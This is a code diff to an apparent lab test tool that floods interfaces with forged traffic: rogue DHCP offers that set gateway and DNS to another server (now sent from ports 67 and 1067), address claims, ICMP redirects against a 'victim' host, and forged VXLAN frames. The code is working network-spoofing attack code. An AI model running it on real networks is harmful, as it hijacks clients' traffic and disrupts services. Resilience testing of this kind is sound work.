@@ -36,6 +36,7 @@ from typing import Any
 INTERFACES = "lab0", "mgmt0"
 BATCH, PATIENCE_S = 4000, 4.0  # sockets that wait for answers at once, and how long they wait for the next one
 END = Path("/run/attack-ends")
+DHCP_SOURCES = 67, 1067  # ports from which it sends DHCP offers: clients accept any
 BROADCAST, MARK = b"\xff" * 6, b"\x88\xb5"  # the type of frames inside forged VXLAN packets (IEEE 802: experiments)
 # Asks for the TXT record `vcluster` (RFC 1035).
 QUESTION = struct.pack(">6H", 1, 0x100, 1, 0, 0, 0) + b"\x08vcluster\0" + struct.pack(">2H", 16, 1)
@@ -129,15 +130,15 @@ def claims(mac: bytes, address: str) -> list[bytes]:
     ]
 
 
-def dhcp(mac: bytes, operation: int, kind: int, server: str = "0.0.0.0") -> bytes:
-    """A DHCPDISCOVER of a host that does not exist, or a DHCPOFFER of another server (RFC 2131)."""
+def dhcp(mac: bytes, operation: int, kind: int, server: str = "0.0.0.0", source: int = 67) -> bytes:
+    """A DHCPDISCOVER of a host that does not exist, or a DHCPOFFER of another server, from this port (RFC 2131)."""
     offered = socket.inet_aton("10.0.0.66" if operation == 2 else "0.0.0.0")
     bootp = struct.pack(">4BIHH4x4s8x6s202x", operation, 1, 6, 0, random.getrandbits(32), 0, 0x8000, offered, mac)
     bootp += b"\x63\x82\x53\x63" + bytes([53, 1, kind])
     if operation == 2:
         raw = socket.inet_aton(server)
         bootp += b"".join(bytes([code, 4]) + raw for code in (54, 3, 6)) + b"\x33\x04\0\0\x0e\x10"
-    ports = (67, 68) if operation == 2 else (68, 67)
+    ports = (source, 68) if operation == 2 else (68, 67)
     udp = struct.pack(">4H", *ports, 8 + len(bootp) + 1, 0) + bootp + b"\xff"
     return ip_frame(mac, ip_packet(17, server, "255.255.255.255", udp))
 
@@ -223,7 +224,11 @@ def floods(request: Result) -> dict[str, list[Callable[[], object]]]:
             for interface, address in request["claimed"]
             for frame in claims(macs[interface][0], address)
         ],
-        "DHCP offers": [sender(name, dhcp(mac, 2, 2, address)) for name, (mac, address) in macs.items()],
+        "DHCP offers": [
+            sender(name, dhcp(mac, 2, 2, address, source))
+            for name, (mac, address) in macs.items()
+            for source in DHCP_SOURCES
+        ],
         "DHCP requests": [discover(interface) for interface in INTERFACES],
         "ICMP redirects": [
             sender("mgmt0", redirect(macs["mgmt0"][0], gateway, victim, "203.0.113.5", macs["mgmt0"][1]))
